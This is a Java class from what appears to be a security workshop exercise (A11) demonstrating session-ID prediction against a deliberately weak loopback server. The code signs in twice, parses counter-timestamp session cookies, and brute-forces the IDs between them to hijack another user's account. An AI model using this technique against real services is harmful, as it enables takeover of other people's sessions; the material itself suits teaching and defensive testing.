package workshop.attacks;

import java.net.URI;
import java.util.Map;
import java.util.Optional;

/** Red team: a session ID guessed from the IDs the server hands out (ATTACK DEMO, loopback only). */
public final class SessionPrediction {

    /** The widest time gap the exploit searches, in milliseconds: at most this many guesses per missing ID. */
    public static final long MAX_WINDOW_MILLIS = 5_000;

    private SessionPrediction() {
    }

    /**
     * A11 · Signs in to {@code server} as alice ({@code POST /a11/login}), lets {@code meanwhile} run (someone else
     * signs in), signs in again, and from the two {@code a11_sid} cookies finds the ID the server gave in between:
     * the first candidate for which {@code GET /a11/account} shows an account that is not alice's. Bounded: when the
     * IDs are not {@code <counter>-<milliseconds>}, nobody signed in between, or the gap is wider than
     * {@link #MAX_WINDOW_MILLIS}, it returns empty without guessing.
     */
    public static Optional<String> hijack(URI server, Runnable meanwhile) {
        String before = signIn(server);
        meanwhile.run();
        String after = signIn(server);
        long[] first = parse(before);
        long[] second = parse(after);
        if (first == null || second == null || second[0] - first[0] < 2 || second[1] - first[1] > MAX_WINDOW_MILLIS) {
            return Optional.empty();
        }
        URI account = server.resolve("/a11/account");
        for (long counter = first[0] + 1; counter < second[0]; counter++) {
            for (long millis = first[1]; millis <= second[1]; millis++) {
                String candidate = counter + "-" + millis;
                Http.Answer page = Http.getWithCookie(account, "a11_sid=" + candidate);
                if (page.status() == 200 && !page.body().startsWith("account of alice")) {
                    return Optional.of(candidate);
                }
            }
        }
        return Optional.empty();
    }

    private static String signIn(URI server) {
        Http.Answer answer = Http.postForm(server.resolve("/a11/login"), Map.of("username", "alice", "password", "wonderland"));
        return answer.cookie("a11_sid").orElseThrow(() -> new IllegalStateException(
                "the sign-in set no a11_sid cookie (status " + answer.status() + ": " + answer.body().strip() + ")"));
    }

    /** {counter, millis} from "1234-1700000000000", or null for any other shape. */
    private static long[] parse(String id) {
        String[] parts = id.split("-");
        if (parts.length != 2) {
            return null;
        }
        try {
            return new long[] {Long.parseLong(parts[0]), Long.parseLong(parts[1])};
        } catch (NumberFormatException e) {
            return null;
        }
    }
}
